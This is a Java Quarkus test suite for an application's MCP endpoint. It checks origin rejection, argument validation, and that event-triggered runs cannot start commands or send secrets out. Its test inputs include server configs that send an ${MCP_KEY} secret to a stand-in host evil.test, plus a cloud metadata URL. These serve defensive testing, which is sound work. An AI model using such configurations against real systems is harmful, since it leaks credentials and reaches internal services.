package io.mlestar.app.mcp;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;

import io.mlestar.Requirement;
import io.mlestar.app.cli.Program;
import io.mlestar.core.records.Records;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.ValidatableResponse;
import jakarta.inject.Inject;
import java.net.URI;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// The tools that the program offers over MCP, with the program as its own client.
@QuarkusTest
@Tag("quarkus")
class McpEndpointTest {
    private static final String EVERY_FORM = "application/json, text/event-stream";
    private static final String INITIALIZE =
            """
                    {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                     "clientInfo": {"name": "test", "version": "1"}}}""";

    @TestHTTPResource("/mcp")
    URI door;

    @Inject
    Records records;

    @ParameterizedTest
    @CsvSource({"http://evil.example, 403", ", 200"})
    void aPageOfAnotherSiteMayNotUseThem(String foreign, int status) {
        posted(INITIALIZE, "Origin", foreign == null ? "http://" + door.getAuthority() : foreign).statusCode(status);
    }

    @Test
    void aCallWithoutArgumentsHasNone() {
        String session =
                posted(INITIALIZE, "Origin", "http://" + door.getAuthority()).extract().header("Mcp-Session-Id");
        posted("{\"jsonrpc\": \"2.0\", \"method\": \"notifications/initialized\"}", "Mcp-Session-Id", session);
        posted("{\"jsonrpc\": \"2.0\", \"id\": 2, \"method\": \"tools/call\", \"params\": {\"name\": \"run_status\"}}",
                "Mcp-Session-Id", session)
                .body(containsString("run_id is required"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"x\"", "[]", "[{}]", "7", "null", "true"})
    void argumentsThatAreNoObjectAreInvalidParametersOfEveryTool(String arguments) {
        String session =
                posted(INITIALIZE, "Origin", "http://" + door.getAuthority()).extract().header("Mcp-Session-Id");
        posted("{\"jsonrpc\": \"2.0\", \"method\": \"notifications/initialized\"}", "Mcp-Session-Id", session);
        List<String> tools =
                posted("{\"jsonrpc\": \"2.0\", \"id\": 2, \"method\": \"tools/list\"}", "Mcp-Session-Id", session)
                        .extract().path("result.tools.name");
        assertThat(tools).contains("start_run", "ParseScore");
        for (String tool : tools) {
            posted("{\"jsonrpc\": \"2.0\", \"id\": 3, \"method\": \"tools/call\", \"params\": {\"name\": \"%s\", \"arguments\": %s}}"
                    .formatted(tool,
                            arguments),
                    "Mcp-Session-Id", session).statusCode(200).body("id", equalTo(3))
                    .body("error.code", equalTo(-32602))
                    .body("error.message", containsString("arguments must be a JSON object"));
        }
    }

    private static ValidatableResponse posted(String message, String header, String value) {
        return given().contentType(ContentType.JSON).header("Accept", EVERY_FORM).header(header, value).body(message)
                .post("/mcp").then();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|',
            textBlock = """
                    {"command": "touch", "args": ["/tmp/x"]}                             | command is not started for a run that is not started by hand
                    {"url": "http://evil.test/", "headers": {"Authorization": "Bearer ${MCP_KEY}"}} | url gets no secret for a run that is not started by hand
                    {"url": "http://evil.test/?q=${MCP_KEY}"}                            | url gets no secret for a run that is not started by hand
                    {"url": "http://169.254.169.254/mcp"}                                | url must begin with https:// for a run that is not started by hand
                    {"url": "http://evil.test/${MCP_KEY}"}                               | url gets no secret for a run that is not started by hand
                    """)
    @Requirement("REQ-OR-010")
    void anEventCannotStartAProgramAndLearnsNoSecret(String server, String said) {
        given().contentType(ContentType.JSON).header("ce-specversion", "1.0").header("ce-source", "test")
                .header("ce-id", "mcp-1")
                .header("ce-type", "io.mlestar.run.requested")
                .body("{\"run_id\": \"mcp-refused\", \"task\": " + Program.TASK
                        + ", \"config\": {\"mcp_servers\": {\"x\": "
                        + server + "}}}")
                .post("/").then().statusCode(422)
                .body("detail", containsString(said));
        assertThat(records.header("mcp-refused")).isEmpty();
    }
}
